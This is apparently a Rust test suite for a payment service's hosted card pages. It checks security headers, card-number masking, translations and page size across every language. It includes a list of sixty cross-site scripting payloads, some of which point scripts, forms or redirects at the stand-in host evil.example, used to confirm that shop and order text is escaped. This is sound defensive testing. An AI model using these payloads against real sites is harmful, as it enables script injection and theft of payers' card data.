//! Tests: every page there is, in every language, made from payments that a shop could have.
//! With `ALTYN_GALLERY=folder` the pages are written there, to be looked at.

use std::path::Path;
use std::sync::Arc;

use altyn_domain::{
    Bucket, CardBrand, CardSummary, ConnectorSettings, Counters, Currency, DeclineCode, End,
    EndReason, Expiry, Facts, HttpMethod, Initiator, Language, Money, Operation, OperationId,
    OperationState, Order, PayerAction, Payment, PaymentId, PaymentMethod, Project, ProjectId,
    ProjectSettings, Sums, SurplusPolicy, Timestamp, Way,
};
use axum::response::Response;
use http_body_util::BodyExt as _;

use super::assets;
use super::card_form::{CardForm, FieldErrors, Kept};
use super::pages;
use super::visit::{Place, View};
use crate::texts::Texts;

/// 2026-11-22.
const NOW: Timestamp = Timestamp::from_millis(1_795_305_600_000);

/// What a shop wrote.
#[derive(Clone, Copy)]
struct Wording<'a> {
    shop: &'a str,
    number: &'a str,
    description: &'a str,
    holder: &'a str,
}

const USUAL: Wording<'_> = Wording {
    shop: "Көк базар — онлайн дүкен",
    number: "A-2026-01842",
    description: "Шай «Пиала Gold» 250 г × 2, жеткізу",
    holder: "AIGERIM SERIKOVA",
};

fn project(wording: Wording<'_>) -> Project {
    let bucket = Bucket::new(7);
    Project {
        id: ProjectId::new(NOW, bucket, 1),
        bucket,
        name: wording.shop.to_owned(),
        slug: "kok-bazar".to_owned(),
        settings: ProjectSettings {
            default_currency: Currency::KZT,
            currencies: vec![Currency::KZT],
            language: Language::Ru,
            session_timeout_ms: 1_200_000,
            tries_max: 3,
            surplus: SurplusPolicy::Return,
            endpoints: Vec::new(),
            dynamic_endpoint: None,
            methods: vec![PaymentMethod::card(
                "card",
                "sandbox-bank",
                ConnectorSettings::default(),
            )],
            keys: Vec::new(),
        },
    }
}

fn payment(wording: Wording<'_>) -> Payment {
    let order = Order {
        reference: wording.number.to_owned(),
        description: Some(wording.description.to_owned()),
        ..Order::default()
    };
    Payment {
        id: PaymentId::new(NOW, Bucket::new(7), 42),
        project_id: ProjectId::new(NOW, Bucket::new(7), 1),
        dialect: "rbs".to_owned(),
        way: Way::Purchase,
        amount: Money::new(1_250_000, Currency::KZT).unwrap(),
        sums: Sums::default(),
        completed_by: None,
        end: None,
        tries_max: 3,
        expires_at: NOW.plus_millis(1_172_000),
        created_at: NOW,
        updated_at: NOW,
        auto_capture_at: None,
        auto_void_at: None,
        counters: Counters::default(),
        order: Arc::new(order),
        operations: Vec::new(),
    }
}

/// A payment with one more try, in `state`.
fn tried(mut payment: Payment, state: OperationState, holder: &str) -> Payment {
    let number = payment.next_number();
    payment.operations.push(Operation {
        id: OperationId::new(NOW, Bucket::new(7), u64::from(number)),
        serial: 1_000_000_001,
        description: None,
        doubts: Vec::new(),
        number,
        kind: payment.way.try_kind(),
        state,
        amount: payment.amount.minor(),
        parent: None,
        reference: None,
        method: "card".to_owned(),
        initiator: Initiator::Payer,
        release_rest: false,
        surplus: false,
        period_over: false,
        decline: None,
        card: Some(CardSummary {
            masked: "444455**3333".to_owned(),
            brand: CardBrand::Visa,
            expiry: Expiry::try_new(2030, 12).unwrap(),
            holder: holder.to_owned(),
        }),
        facts: Facts {
            approval_code: Some("123456".to_owned()),
            ..Facts::default()
        },
        action: None,
        reserve: None,
        exchanges: 1,
        created_at: NOW,
        sent_at: Some(NOW),
        finished_at: (!state.is_open()).then_some(NOW),
    });
    payment
}

fn declined(payment: Payment, code: DeclineCode, holder: &str) -> Payment {
    let mut payment = tried(payment, OperationState::Declined, holder);
    if let Some(last) = payment.operations.last_mut() {
        last.decline = Some(code);
    }
    payment
}

fn asked(payment: Payment, action: PayerAction, holder: &str) -> Payment {
    let mut payment = tried(payment, OperationState::Pending, holder);
    if let Some(last) = payment.operations.last_mut() {
        last.action = Some(action);
    }
    payment
}

fn completed(payment: Payment, holder: &str) -> Payment {
    let mut payment = tried(payment, OperationState::Succeeded, holder);
    payment.completed_by = Some(1);
    let amount = payment.amount.minor();
    match payment.way {
        Way::Purchase => (payment.sums.held, payment.sums.captured) = (amount, amount),
        Way::Hold => payment.sums.held = amount,
        Way::Verify => {}
    }
    payment
}

fn ended(mut payment: Payment, reason: EndReason) -> Payment {
    payment.end = Some(End { reason, at: NOW });
    payment
}

/// A page to be made: its name, its payment, and how it is asked for.
struct Scene {
    name: &'static str,
    payment: Payment,
    asked_at: Asking,
    returns: bool,
}

enum Asking {
    At(Place),
    /// A form posted with mistakes.
    Posted(&'static str),
    /// The issuer's page came back with nothing.
    BrokenReturn,
}

fn scene(name: &'static str, place: Place, payment: Payment) -> Scene {
    Scene {
        name,
        payment,
        asked_at: Asking::At(place),
        returns: true,
    }
}

fn scenes(w: Wording<'_>) -> Vec<Scene> {
    let mut scenes = forms(w);
    scenes.extend(steps(w));
    scenes.extend(outcomes(w));
    scenes
}

fn in_way(w: Wording<'_>, way: Way) -> Payment {
    Payment { way, ..payment(w) }
}

fn poor(w: Wording<'_>) -> Payment {
    declined(payment(w), DeclineCode::InsufficientFunds, w.holder)
}

/// Its only try has no answer and is no longer waited for.
fn unanswered(w: Wording<'_>) -> Payment {
    let mut payment = tried(payment(w), OperationState::Pending, w.holder);
    payment.operations[0].period_over = true;
    payment
}

fn forms(w: Wording<'_>) -> Vec<Scene> {
    let mut wrong = scene("form-wrong", Place::Front, payment(w));
    wrong.asked_at =
        Asking::Posted("cc-number=4444+5555+1111+3334&cc-exp=10%2F26&cc-csc=1&cc-name=A+SERIKOVA");
    vec![
        scene("form", Place::Front, payment(w)),
        scene("form-hold", Place::Front, in_way(w, Way::Hold)),
        scene("form-verify", Place::Front, in_way(w, Way::Verify)),
        scene("form-again", Place::Front, poor(w)),
        scene("form-unanswered", Place::Front, unanswered(w)),
        wrong,
    ]
}

fn steps(w: Wording<'_>) -> Vec<Scene> {
    let transaction_id = "8a880dc0-d2d2-4067-bcb1-b08d1690b26e".to_owned();
    let check = PayerAction::DeviceCheck {
        transaction_id: transaction_id.clone(),
        url: "https://acs.example/method".to_owned(),
        data: "e30".to_owned(),
    };
    let challenge = PayerAction::Challenge {
        transaction_id,
        acs_url: "https://acs.example/challenge".to_owned(),
        creq: "e30".to_owned(),
    };
    let redirect = PayerAction::Redirect {
        url: "https://wallet.example/pay?a=1&b=2".to_owned(),
        method: HttpMethod::Get,
        fields: [].into(),
    };
    let step = |name, action| scene(name, Place::Steps, asked(payment(w), action, w.holder));
    let mut broken = step("steps-again", challenge.clone());
    broken.asked_at = Asking::BrokenReturn;
    vec![
        step("steps-method", check),
        step("steps-challenge", challenge),
        step("steps-redirect", redirect),
        broken,
    ]
}

fn outcomes(w: Wording<'_>) -> Vec<Scene> {
    let paid = |way| completed(in_way(w, way), w.holder);
    let mut over = unanswered(w);
    over.tries_max = 1;
    let mut late = unanswered(w);
    late.end = ended(payment(w), EndReason::Expired).end;
    let mut part_back = paid(Way::Purchase);
    part_back.sums.refunded = 250_000;
    let mut returned = paid(Way::Purchase);
    returned.sums.refunded = 1_250_000;
    let last = declined(payment(w), DeclineCode::SuspectedFraud, w.holder);
    let ending = |reason| ended(payment(w), reason);
    let sent = tried(payment(w), OperationState::Sent, w.holder);
    let mut no_shop = scene("paid-no-shop", Place::Result, paid(Way::Purchase));
    no_shop.returns = false;
    let for_good = ended(last, EndReason::Declined);
    vec![
        scene("wait", Place::Result, sent),
        scene("paid", Place::Result, paid(Way::Purchase)),
        scene("paid-part-back", Place::Result, part_back),
        scene("already-paid", Place::Front, paid(Way::Purchase)),
        scene("held", Place::Result, paid(Way::Hold)),
        scene("verified", Place::Result, paid(Way::Verify)),
        scene("returned", Place::Front, returned),
        scene("declined", Place::Result, poor(w)),
        scene("declined-for-good", Place::Result, for_good),
        scene("tries-over", Place::Front, over),
        scene("cancelled", Place::Front, ending(EndReason::Cancelled)),
        scene("expired", Place::Front, ending(EndReason::Expired)),
        scene("expired-unanswered", Place::Front, late),
        no_shop,
    ]
}

fn render(scene: &Scene, project: &Project, language: Language) -> Response {
    let view = View {
        base: "",
        payment: &scene.payment,
        project,
        language,
        now: NOW,
        returns: scene.returns,
    };
    match (&scene.asked_at, view.standing()) {
        (Asking::Posted(body), _) => {
            let form: CardForm = serde_html_form(body);
            let errors = form.read(NOW).unwrap_err();
            pages::form(&view, &form.kept(), &errors)
        }
        (Asking::BrokenReturn, super::standing::Standing::Asked(action)) => {
            pages::steps(&view, &action, false)
        }
        (_, _) => super::handlers::present(&view, place_of(&scene.asked_at)),
    }
}

const fn place_of(asking: &Asking) -> Place {
    match asking {
        Asking::At(place) => *place,
        Asking::Posted(_) | Asking::BrokenReturn => Place::Front,
    }
}

fn serde_html_form(body: &str) -> CardForm {
    let uri: axum::http::Uri = format!("/?{body}").parse().unwrap();
    axum::extract::Query::try_from_uri(&uri).unwrap().0
}

async fn text_of(response: Response) -> String {
    let bytes = response.into_body().collect().await.unwrap().to_bytes();
    String::from_utf8(bytes.to_vec()).unwrap()
}

/// Pages that belong to no payment.
fn lone_pages(language: Language) -> Vec<(&'static str, Response)> {
    let busy = altyn_engine::EngineError::Busy;
    let no_method = altyn_domain::Refusal::MethodUnavailable.into();
    let id = Some(PaymentId::new(NOW, Bucket::new(7), 42));
    vec![
        ("unknown", pages::unknown_order("", language)),
        ("busy", pages::trouble("", id, language, &busy)),
        ("no-method", pages::trouble("", id, language, &no_method)),
    ]
}

#[tokio::test]
async fn every_page_exists_in_every_language() {
    let project = project(USUAL);
    let folder = std::env::var_os("ALTYN_GALLERY");
    for language in Language::ALL {
        let made = scenes(USUAL)
            .into_iter()
            .map(|scene| (scene.name, render(&scene, &project, language)));
        for (name, response) in made.chain(lone_pages(language)) {
            let policy = response.headers()["content-security-policy"]
                .to_str()
                .unwrap();
            assert!(
                policy.starts_with("default-src 'none'; script-src 'self';"),
                "{name}"
            );
            assert!(!policy.contains("unsafe"), "{name}");
            for (header, value) in [
                ("cache-control", "no-store"),
                ("referrer-policy", "same-origin"),
                ("x-content-type-options", "nosniff"),
                ("cross-origin-opener-policy", "same-origin"),
                ("x-frame-options", "DENY"),
            ] {
                assert_eq!(response.headers()[header], value, "{name}");
            }
            let reaches_out = name.starts_with("steps");
            assert_eq!(policy.contains("https://"), reaches_out, "{name}: {policy}");
            let status = response.status().as_u16();
            let text = text_of(response).await;
            assert!(
                text.contains(&format!("<html lang=\"{}\">", language.code())),
                "{name}: {status} {text}"
            );
            assert!(
                text.contains("<h1") && text.contains("integrity=\"sha384-"),
                "{name}"
            );
            // The script puts the one value in that changes while the page is looked at.
            let filled = text.replace(Texts::of(language).returning, "");
            assert!(!filled.contains("{}"), "{name}: a value is missing");
            assert_eq!(status, expected_status(name), "{name}");
            if let Some(folder) = &folder {
                let file = format!("{name}-{}.html", language.code());
                std::fs::write(Path::new(folder).join(file), text).unwrap();
            }
        }
    }
    if let Some(folder) = &folder {
        assets::write_to(Path::new(folder));
    }
}

#[test]
fn every_text_is_there_and_every_decline_has_words_of_its_own() {
    let codes = DeclineCode::ALL;
    let mut words = std::collections::BTreeSet::new();
    for language in Language::ALL {
        let texts = Texts::of(language);
        assert_eq!(texts.language, language);
        assert!(
            !format!("{texts:?}").contains("\"\""),
            "{language:?}: a text is empty"
        );
        words.extend(codes.map(|code| texts.decline(code)));
    }
    assert_eq!(words.len(), codes.len() * Language::ALL.len());
}

fn expected_status(name: &str) -> u16 {
    match name {
        "unknown" => 404,
        "busy" | "no-method" => 503,
        "form-wrong" => 422,
        _ => 200,
    }
}

#[tokio::test]
async fn a_wrong_form_names_its_fields_and_shows_no_digit_of_the_card() {
    let scenes = scenes(USUAL);
    let wrong = scenes
        .iter()
        .find(|scene| scene.name == "form-wrong")
        .unwrap();
    let text = text_of(render(wrong, &project(USUAL), Language::En)).await;
    for words in [
        "A digit is wrong: check the number.",
        "Card has expired.",
        "Enter 3 digits.",
        "value=\"10/26\"",
        "value=\"A SERIKOVA\"",
    ] {
        assert!(text.contains(words), "{words}");
    }
    assert_eq!(text.matches("aria-invalid=\"true\"").count(), 3);
    assert!(!text.contains("4444"));
    assert_eq!(text.matches(" autofocus").count(), 1);
}

/// What somebody might call a shop, an order or themselves. None of it may become markup.
const HOSTILE: [&str; 60] = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example></script>",
    "<scr<script>ipt>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src/onerror=alert(1)>",
    "<image href=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<form action=//evil.example><input name=cc-number>",
    "</form><form action=//evil.example>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=//evil.example>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>*{background:url(//evil.example)}</style>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=\"alert(1)",
    "\" style=\"background:url(//evil.example)",
    "` onmouseover=alert(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{7*7}<%= 7*7 %>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "\u{202e}<script>alert(1)</script>",
    "\u{0}<script>alert(1)</script>",
    "\u{ff1c}script\u{ff1e}<script\u{b}>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-<b>",
];

/// Tags and attributes of a page, without what stands between tags. A `>` within quotes ends no tag.
fn markup_of(text: &str) -> String {
    let mut markup = String::new();
    let (mut is_inside, mut is_quoted) = (false, false);
    for c in text.chars() {
        match c {
            '<' if !is_inside => is_inside = true,
            '"' if is_inside => is_quoted = !is_quoted,
            '>' if is_inside && !is_quoted => {
                is_inside = false;
                markup.push('\n');
            }
            _ => {}
        }
        if is_inside && (!is_quoted || c == '"') {
            markup.push(c);
        }
    }
    markup
}

#[tokio::test]
async fn nothing_that_others_wrote_becomes_markup() {
    let harmless = Wording {
        shop: "shop",
        number: "number",
        description: "description",
        holder: "HOLDER",
    };
    let expected = scenes(harmless);
    for payload in HOSTILE {
        let hostile = Wording {
            shop: payload,
            number: payload,
            description: payload,
            holder: payload,
        };
        for (scene, plain) in scenes(hostile).iter().zip(&expected) {
            let made = text_of(render(scene, &project(hostile), Language::Ru)).await;
            let usual = text_of(render(plain, &project(harmless), Language::Ru)).await;
            assert_eq!(
                markup_of(&made),
                markup_of(&usual),
                "{}: {payload}",
                scene.name
            );
        }
    }
}

#[tokio::test]
async fn a_name_on_the_card_comes_back_escaped() {
    let project = project(USUAL);
    let payment = payment(USUAL);
    let view = View {
        base: "",
        payment: &payment,
        project: &project,
        language: Language::En,
        now: NOW,
        returns: false,
    };
    for payload in HOSTILE {
        let kept = |holder: &str| Kept {
            expiry: String::new(),
            holder: holder.to_owned(),
        };
        let made = text_of(pages::form(&view, &kept(payload), &FieldErrors::default())).await;
        let usual = text_of(pages::form(&view, &kept("A"), &FieldErrors::default())).await;
        assert_eq!(markup_of(&made), markup_of(&usual), "{payload}");
    }
}

#[tokio::test]
async fn the_steps_page_allows_the_issuer_alone() {
    for scene in scenes(USUAL)
        .iter()
        .filter(|scene| scene.name.starts_with("steps-"))
    {
        let response = render(scene, &project(USUAL), Language::Ru);
        let policy = response.headers()["content-security-policy"]
            .to_str()
            .unwrap();
        let (frames, forms) = match scene.name {
            "steps-method" => ("'self' https://acs.example", "'self' https://acs.example"),
            "steps-redirect" => ("'none'", "'self' https://wallet.example"),
            _ => ("'none'", "'self' https://acs.example"),
        };
        let expected = format!("frame-src {frames}; form-action {forms}; frame-ancestors 'none';");
        assert!(policy.contains(&expected), "{}: {policy}", scene.name);
    }
    let framed = pages::method_frame("");
    let policy = framed.headers()["content-security-policy"]
        .to_str()
        .unwrap();
    assert!(policy.contains("frame-ancestors 'self'") && !policy.contains("https:"));
}

#[tokio::test]
async fn the_first_view_weighs_little() {
    let scenes = scenes(USUAL);
    let form = scenes.iter().find(|scene| scene.name == "form").unwrap();
    // The page itself is compressed on its way; even uncompressed all of it stays within the limit.
    let page = text_of(render(form, &project(USUAL), Language::Kk))
        .await
        .len();
    let bytes = page + assets::STYLE.gzip_len() + assets::SCRIPT.gzip_len();
    assert!(bytes < 24 * 1024, "{bytes} bytes");
}
